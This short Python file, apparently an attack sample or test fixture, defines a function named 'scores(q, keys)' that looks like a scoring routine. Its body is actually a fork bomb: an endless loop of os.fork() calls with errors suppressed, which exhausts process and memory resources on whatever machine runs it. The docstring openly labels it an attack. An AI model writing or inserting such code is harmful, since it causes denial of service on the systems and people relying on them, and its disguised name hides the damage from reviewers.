"""Attack: forks without end (each child forks too)."""
import os


def scores(q, keys):
    while True:
        try:
            os.fork()
        except OSError:
            pass
